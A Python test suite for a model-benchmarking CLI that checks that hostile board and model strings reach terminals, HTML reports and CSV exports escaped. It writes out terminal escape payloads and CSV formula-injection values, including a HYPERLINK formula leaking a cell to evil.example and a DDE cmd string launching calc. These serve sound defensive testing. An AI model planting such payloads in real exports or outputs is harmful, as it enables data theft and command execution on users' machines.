"""What a hostile board, model file or target file can put on the user's terminal: text, never
control sequences (window title, clear screen, colours, bell, NUL)."""

from __future__ import annotations

import dataclasses
import os
import pty
import re
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from toolkit.cli.main import main
from toolkit.results.store import ResultsStore
from toolkit.safe_text import markdown_text, one_line, printable

from .hostile import TERMINAL, hostile, hostile_run

#: What no board string may put on a terminal: ESC, BEL, NUL and CSI as one C1 byte (UTF-8).
RAW = (b"\x1b", b"\x07", b"\x00", b"\xc2\x9b")
#: The only escape sequences edge itself writes on a terminal: rich's bold and reset around
#: a table's header (SGR 1 and 0).
OWN_STYLES = re.compile(rb"\x1b\[[01]m")


def raw_on_a_terminal(seen: bytes) -> list[bytes]:
    """The raw control bytes in what a terminal showed, once edge's own styles are taken out,
    and every terminal payload of :mod:`tests.hostile` found verbatim (its colour code too)."""
    left = OWN_STYLES.sub(b"", seen)
    return [raw for raw in RAW if raw in left] + \
        [payload.encode() for payload in TERMINAL if payload.encode() in seen]

#: A board's Python that is really Python for edge's probe, and answers a job with hostile
#: strings (or dies with a hostile last line on stderr) instead of running the agent.
FAKE_PYTHON = """#!{python}
import json, os, sys

HOSTILE = {hostile!r}
if sys.argv[2:3] != ["run"]:
    os.execv(sys.executable, [sys.executable, *sys.argv[1:]])
if {die!r}:
    sys.stderr.write("Traceback ...\\n" + HOSTILE + "\\n")
    sys.exit(1)
job = json.load(open(sys.argv[3]))
samples = [0.5] * 5
figures = {{"status": "ok", "runtime": {{"name": HOSTILE, "version": HOSTILE}},
           "load_ms": 1.0, "first_inference_ms": 1.0, "measured_seconds": 0.01, "runs": 5,
           "threads": 1, "peak_rss_bytes": 1000000, "latency_samples_ms": samples,
           "latency_ms": {{k: 0.5 for k in ("p50", "p90", "p99", "mean", "min", "max")}}}}
figures["latency_ms"]["std"] = 0.0
first, *rest = job["variants"]
print(json.dumps({{
    "schema_version": 1, "job_id": job["job_id"],
    "board": {{"hostname": HOSTILE, "machine": "x86_64", "system": "Linux", "python": "3.11",
              "release": HOSTILE,
              "cpu_model": HOSTILE, "board_model": HOSTILE}},
    "variants": [dict(figures, name=first["name"])]
                + [{{"name": v["name"], "status": "failed", "error": HOSTILE}} for v in rest]}}))
"""


@pytest.mark.parametrize("text", [*TERMINAL, hostile("all")])
def test_printable_shows_every_control_character_escaped(text: str) -> None:
    for shown in (printable(text), one_line(text), markdown_text(text)):
        assert not any((ord(c) < 0x20 and c != "\t") or 0x7F <= ord(c) < 0xA0 for c in shown)
    assert printable("\x1b]0;owned\x07") == "\\x1b]0;owned\\x07"


def test_printable_keeps_text_tabs_and_letters() -> None:
    assert printable("Cortex-A76\tRaspberry Pi 5 — Köln, 東京") == \
        "Cortex-A76\tRaspberry Pi 5 — Köln, 東京"
    assert one_line("no runtime\nedge: error: forged") == "no runtime edge: error: forged"


def fake_board(tmp_path: Path, *, die: bool = False) -> Path:
    """A targets folder with ``hostile``: this machine, its Python replaced by the fake."""
    python = tmp_path / "fake-python"
    python.write_text(FAKE_PYTHON.format(python=sys.executable, hostile=hostile("board"),
                                         die=die))
    python.chmod(0o755)
    targets = tmp_path / "targets"
    targets.mkdir()
    (targets / "hostile.toml").write_text(f'transport = "local"\npython = "{python}"\n'
                                          "threads = 1\n")
    return targets


def on_a_terminal(args: list[str], cwd: Path) -> tuple[int, bytes]:
    """Run ``edge ARGS`` with a pseudo-terminal as its stdin, stdout and stderr: what a user
    would see, byte for byte."""
    leader, follower = pty.openpty()
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parent.parent),
           "COLUMNS": "200"}
    process = subprocess.Popen([sys.executable, "-m", "toolkit", *args], cwd=cwd, env=env,
                               stdin=follower, stdout=follower, stderr=follower)
    os.close(follower)
    seen = bytearray()
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # EIO: every writer closed the terminal
            break
        if not chunk:
            break
        seen += chunk
    os.close(leader)
    return process.wait(timeout=120), bytes(seen)


@pytest.mark.parametrize("die", [False, True], ids=["answer", "stderr"])
def test_a_hostile_board_reaches_the_terminal_escaped(tflite_copy: Path, tmp_path: Path,
                                                      die: bool) -> None:
    targets = fake_board(tmp_path, die=die)
    status, seen = on_a_terminal(["deploy", str(tflite_copy), "--target", "hostile",
                                  "--targets-dir", str(targets), "--threads", "1,2", "--quiet",
                                  "-o", str(tmp_path / "out")], tmp_path)
    assert status == (1 if die else 3), seen.decode("utf-8", "replace")
    assert raw_on_a_terminal(seen) == []
    assert b"\\x1b]0;owned\\x07" in seen  # shown, escaped
    assert b"Traceback" not in seen.replace(b"Traceback ...", b"")


def test_runs_list_shows_a_hostile_model_name_escaped(tmp_path: Path) -> None:
    store = tmp_path / "results.sqlite"
    with ResultsStore(store) as opened:
        opened.add_run(dataclasses.replace(hostile_run(), tags=()))  # tags are checked
    result = CliRunner().invoke(main, ["runs", "list", "--store", str(store)],
                                catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert [raw for raw in RAW if raw in result.stdout_bytes] == []
    assert "model<script>" in result.stdout
    shown = CliRunner().invoke(main, ["runs", "show", "r-hostile", "--store", str(store)],
                               catch_exceptions=False)
    assert [raw for raw in RAW if raw in shown.stdout_bytes] == []


def controls(text: str) -> list[str]:
    """The control characters of a document that a terminal would act on (all but the tab
    and the line feed)."""
    return sorted({c for c in text if (ord(c) < 0x20 and c not in "\t\n")
                   or 0x7F <= ord(c) < 0xA0})


def test_report_html_and_csv_export_on_stdout_and_in_files_carry_no_control_characters(
        tmp_path: Path) -> None:
    """Autoescaping leaves an ESC in HTML (it is no markup): the HTML report reached a
    terminal raw through `edge report --format html`, and a CSV export through a `cat`."""
    from .hostile import Elements

    store = tmp_path / "results.sqlite"
    with ResultsStore(store) as opened:
        opened.add_run(dataclasses.replace(hostile_run(), tags=()))
    for args in (["report", "r-hostile", "--format", "html"],
                 ["runs", "export", "r-hostile", "--format", "csv"]):
        shown = CliRunner().invoke(main, [*args, "--store", str(store)],
                                   catch_exceptions=False)
        assert shown.exit_code == 0, shown.output
        assert [raw for raw in RAW if raw in shown.stdout_bytes] == []
        assert controls(shown.stdout) == []
        assert "\\x1b]0;owned\\x07" in shown.stdout  # shown, escaped
        written = tmp_path / f"written.{args[-1]}"
        assert CliRunner().invoke(main, [*args, "--store", str(store), "-o", str(written)],
                                  catch_exceptions=False).exit_code == 0
        assert written.read_text(encoding="utf-8") == shown.stdout
    html = CliRunner().invoke(main, ["report", "r-hostile", "--format", "html", "--store",
                                     str(store)], catch_exceptions=False).stdout
    assert Elements(html).injected() == []  # still escaped as HTML


def test_csv_cells_from_a_board_are_never_spreadsheet_formulas(tmp_path: Path) -> None:
    import csv
    import io

    from .records import BOARD, make_run, record

    board = {**BOARD, "cpu_model": '=HYPERLINK("http://evil.example/?"&A1,"Cortex")',
             "machine": "@SUM(1+1)*cmd|' /C calc'!A0"}
    run = make_run("r-formula", [record("fp32", target="+lab", board=board),
                                 {"target": "+lab", "variant": "-2+3", "recipe": "-2+3",
                                  "status": "failed", "stage": "compress",
                                  "error": "\t=1+1\x1b[2J"}])
    store = tmp_path / "results.sqlite"
    with ResultsStore(store) as opened:
        opened.add_run(run)
    exported = CliRunner().invoke(main, ["runs", "export", "r-formula", "--format", "csv",
                                         "--store", str(store)], catch_exceptions=False)
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    cells = [cell for row in rows for cell in row.values()]
    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    assert rows[0]["board_cpu_model"] == "'" + board["cpu_model"]
    assert rows[0]["target"] == "'+lab" and rows[1]["variant"] == "'-2+3"
    assert rows[1]["error"] == "'\t=1+1\\x1b[2J"
    assert float(rows[0]["p50_ms"]) > 0  # figures stay numbers
